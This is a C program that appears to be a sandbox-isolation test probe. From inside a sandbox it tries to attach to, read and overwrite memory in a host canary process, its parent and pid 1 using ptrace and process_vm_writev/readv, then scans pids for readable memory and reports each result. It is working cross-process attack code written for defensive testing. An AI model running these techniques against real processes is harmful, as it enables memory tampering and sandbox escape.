/* Attack: reach another process's memory. argv[1] is a host canary's pid, argv[2] the address
 * of its secret string (both as the host sees them; the sandbox should not see that pid).
 * Or argv[1] is "@FILE": wait for FILE to hold "<pid> <address> <name>" (the runtime's own host
 * process, written there by the test once the sandbox exists) and attack that instead.
 * - PTRACE_ATTACH / PTRACE_SEIZE on the canary, on our parent and on pid 1, then POKEDATA;
 * - process_vm_writev into the canary; PTRACE_TRACEME (to detach a sentry that traces us);
 * - a scan of pids 1..4096 with process_vm_readv (reads only) at the canary's address: how many
 *   could be read, and how many exist and let us try (an answer other than ESRCH, EPERM, ENOSYS).
 * Prints one line per step. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *what, long rc) {
    if (rc >= 0) printf("%s: ok\n", what);
    else printf("%s: errno %d\n", what, errno);
    fflush(stdout);
}

static void attach(const char *name, pid_t pid, unsigned long addr) {
    char what[128];
    snprintf(what, sizeof what, "ptrace attach %s", name);
    long rc = ptrace(PTRACE_ATTACH, pid, 0, 0);
    say(what, rc);
    if (rc == 0) {
        int st;
        waitpid(pid, &st, __WALL);
        snprintf(what, sizeof what, "ptrace poke %s", name);
        say(what, ptrace(PTRACE_POKEDATA, pid, addr, 0x4e57505f4e57505fL));
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    snprintf(what, sizeof what, "ptrace seize %s", name);
    rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
    say(what, rc);
    if (rc == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    pid_t canary;
    unsigned long addr;
    char name[64] = "canary";
    if (argv[1][0] == '@') {
        FILE *f = NULL;
        for (int i = 0; i < 1000 && !f; i++) {
            f = fopen(argv[1] + 1, "r");
            if (!f) usleep(10000);
        }
        if (!f || fscanf(f, "%d %lu %63s", &canary, &addr, name) != 3) {
            printf("no target in %s\n", argv[1] + 1);
            return 1;
        }
        fclose(f);
    } else {
        if (argc < 3) return 2;
        canary = atoi(argv[1]);
        addr = strtoul(argv[2], 0, 10);
    }
    char what[128];
    attach(name, canary, addr);
    attach("parent", getppid(), addr);
    attach("pid1", 1, addr);

    char payload[] = "PWNED-BY-SANDBOX";
    struct iovec local = {payload, sizeof payload}, remote = {(void *)addr, sizeof payload};
    snprintf(what, sizeof what, "process_vm_writev %s", name);
    say(what, syscall(SYS_process_vm_writev, canary, &local, 1, &remote, 1, 0));
    char buf[16];
    struct iovec l2 = {buf, sizeof buf}, r2 = {(void *)addr, sizeof buf};
    snprintf(what, sizeof what, "process_vm_readv %s", name);
    say(what, syscall(SYS_process_vm_readv, canary, &l2, 1, &r2, 1, 0));
    snprintf(what, sizeof what, "kill %s", name);
    say(what, kill(canary, 0));

    pid_t c = fork();
    if (c == 0) {
        long rc = ptrace(PTRACE_TRACEME, 0, 0, 0);
        _exit(rc == 0 ? 0 : errno);
    }
    int st = 0;
    waitpid(c, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 0) printf("ptrace traceme: ok\n");
    else printf("ptrace traceme: errno %d\n", WIFEXITED(st) ? WEXITSTATUS(st) : -1);

    int readable = 0, present = 0;
    pid_t me = getpid();
    for (pid_t p = 1; p <= 4096; p++) {
        if (p == me) continue;
        long rc = syscall(SYS_process_vm_readv, p, &l2, 1, &r2, 1, 0);
        if (rc >= 0) readable++;
        else if (errno != ESRCH && errno != EPERM && errno != ENOSYS) present++;
    }
    printf("pids readable: %d\n", readable);
    printf("pids present: %d\n", present);
    return 0;
}
